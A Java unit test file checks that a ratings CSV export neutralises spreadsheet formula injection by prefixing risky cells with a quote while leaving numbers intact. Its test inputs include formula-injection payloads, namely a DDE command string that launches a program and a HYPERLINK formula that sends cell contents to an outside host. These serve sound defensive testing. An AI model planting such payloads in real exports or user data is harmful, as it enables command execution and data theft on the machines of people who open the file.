package org.assessor.web.runs;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.assessor.archive.StoredRating;
import org.junit.jupiter.api.Test;

/** The ratings download opens in a spreadsheet without running a formula planted in an uploaded file, and numbers stay numbers. */
class RatingsCsvExportTest {

    @Test
    void cellsThatASpreadsheetWouldReadAsAFormulaGetALeadingQuote() {
        for (String formula : List.of("=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx", "-", "+", "-3-", "--3", "1e5", "-e5")) {
            String expected = Character.isDigit(formula.charAt(0)) ? formula : "'" + formula;
            assertThat(FormulaCells.neutralised(formula)).as(formula).isEqualTo(expected);
        }
    }

    @Test
    void plainNumbersAndOrdinaryTextStayAsTheyAre() {
        for (String cell : List.of("-3", "-0.25", "+7", "-.5", "3.", "-1.5E-3", "+2e10", "0", "", "Aintree Hospitals NHS Trust",
                "pass", "a=b", " =1")) {
            assertThat(FormulaCells.neutralised(cell)).as(cell).isEqualTo(cell);
        }
    }

    @Test
    void theDownloadNeutralisesEveryCellTheHeaderIncludedButNotItsNumbers() {
        Map<String, String> results = new LinkedHashMap<>();
        results.put("score", "-3");
        results.put("change", "-0.25");
        results.put("note", "=HYPERLINK(\"http://example.org/?\"&A2,\"open\")");
        StoredRating rating = new StoredRating(0, "@Evil Trust", "acute", null, "-1+1", results, Map.of("-region", "+london"), false);

        String csv = RatingsCsvExport.of(List.of(rating), List.of(rating));

        assertThat(csv).isEqualTo("""
                organisation,sector,rating,score,change,note,'-region
                '@Evil Trust,acute,'-1+1,-3,-0.25,"'=HYPERLINK(""http://example.org/?""&A2,""open"")",'+london
                """);
    }
}
